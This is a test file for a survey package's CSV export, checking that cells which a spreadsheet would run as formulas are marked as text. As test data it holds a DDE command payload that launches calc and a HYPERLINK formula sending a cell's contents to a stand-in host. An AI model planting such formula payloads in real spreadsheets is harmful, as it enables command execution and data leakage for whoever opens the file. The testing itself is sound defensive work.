"""A table that is opened in a spreadsheet shows what was written in the field and carries nothing out."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from questionnaires import dictionary
from questionnaires.cells import MARK, is_safe, safe, safe_line
from questionnaires.xform import compile_form
from tests.survey_api.forms import interview_form

FORMULA = '=HYPERLINK("http://x.test?"&A1,"open")'
BEGINNINGS = ("=", "+", "-", "@", "|", "\t", "\r", "\n", "＝", "＋", "－", "＠", "｜")


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\ufeff", "\u200b ", "\u3000"])
def test_what_a_spreadsheet_would_carry_out_is_shown_as_text(beginning: str, before: str) -> None:
    cell = f"{before}{beginning}cmd|' /C calc'!A0"
    assert not is_safe(cell)
    assert safe(cell) == MARK + cell


@pytest.mark.parametrize("cell", ["-8", "+21622345678", "-0.5", "1,5", "-1e-05", "0", "", "a=b", "Tunis-Ville", "8|9"])
def test_numbers_and_ordinary_words_are_left_as_they_are(cell: str) -> None:
    assert safe(cell) == cell


@pytest.mark.parametrize("cell", ["-8+1", "+1-1", "--1", "-", "+", "-1\n=2", "-8 = don't know", "+1 cmd"])
def test_what_is_nearly_a_number_is_text(cell: str) -> None:
    assert safe(cell).startswith(MARK)


def test_nothing_is_an_empty_cell_and_values_are_written_as_they_read() -> None:
    assert safe_line([None, 1, -2.5, True, "=1"]) == ["", "1", "-2.5", "True", "'=1"]


@given(st.text())
def test_a_cell_made_safe_is_safe_and_says_the_same(cell: str) -> None:
    made = safe(cell)
    assert is_safe(made)
    assert made in (cell, MARK + cell)


def test_a_dictionary_carries_no_formula_out_of_a_label() -> None:
    label = "<label>life/rooms</label>"
    xform = interview_form().replace(
        label.encode(), label.replace("life/rooms", FORMULA.replace("&", "&amp;")).encode()
    )
    written = dictionary.as_csv(compile_form(xform), lambda code, *_: code)
    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
    assert MARK + FORMULA in cells
    assert all(map(is_safe, cells))
